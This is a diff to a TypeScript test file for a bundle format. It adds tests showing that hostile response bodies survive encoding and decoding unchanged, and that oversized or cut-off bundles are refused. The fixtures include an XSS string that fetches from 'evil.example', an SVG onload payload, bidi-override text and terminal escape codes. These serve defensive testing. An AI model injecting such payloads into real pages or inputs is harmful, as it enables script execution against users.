@@ -1,6 +1,6 @@
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
-import { base64Encode } from "#lib/kernel/base.ts";
+import { base64Decode, base64Encode } from "#lib/kernel/base.ts";
 import { utf8Encode } from "#lib/kernel/bytes.ts";
 import type { Did } from "#lib/kernel/ids.ts";
 import { asInstant } from "#lib/kernel/instant.ts";
@@ -177,6 +177,32 @@ describe("the zip form", () => {
       ),
       { seed, numRuns: 30 },
     );
+  });
+
+  test.each([
+    ["HTML that runs", '<script>fetch("//evil.example")</script><img src=x onerror=alert(1)>'],
+    ["SVG that runs", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject/></svg>'],
+    ["text that reads backwards", "abc\u202edcba\u2066\u200b\ufeff"],
+    ["control characters and terminal codes", "\u0000\u0007\u001b[2J\u001b]0;x\u0007\r\n\u0085"],
+    ["lone continuation bytes", Uint8Array.of(0x80, 0xff, 0xc0, 0xed, 0xa0, 0x80)],
+    ["what looks like the archive itself", Uint8Array.of(0x50, 0x4b, 3, 4, 0x50, 0x4b, 1, 2, 0x50, 0x4b, 5, 6)],
+  ])("a body of %s comes back byte for byte in both forms, and stands in the JSON as letters only", (_, content) => {
+    const body = typeof content === "string" ? utf8Encode(content) : content;
+    const bundle = with_({ exchanges: [{ ...first, response: { ...first.response, body: base64Encode(body) } }] });
+    const bytes = encodeBundle(bundle);
+    expect(bytes.every((byte) => byte >= 0x20 && byte < 0x7f && byte !== 0x3c)).toBe(true);
+    for (const read of [parseBundle(bytes), unzipBundle(zipBundle(bundle))]) {
+      const [exchange] = read.ok ? read.value.exchanges : [];
+      expect(exchange && "response" in exchange && base64Decode(exchange.response.body)).toEqual(body);
+    }
+  });
+
+  test("ten megabytes are refused by their length, and a half-sent bundle by its form", () => {
+    const large = parseBundle(new Uint8Array(10 << 20));
+    expect(large).toMatchObject({ ok: false, error: { code: "too-large" } });
+    const half = encodeBundle(exampleBundle);
+    for (const at of [1, half.length >> 1, half.length - 1])
+      expect(parseBundle(half.subarray(0, at))).toMatchObject({ ok: false, error: { code: "malformed" } });
   });
 
   test("refuses bombs, cut files, names that do not belong and bodies that stand twice", async () => {
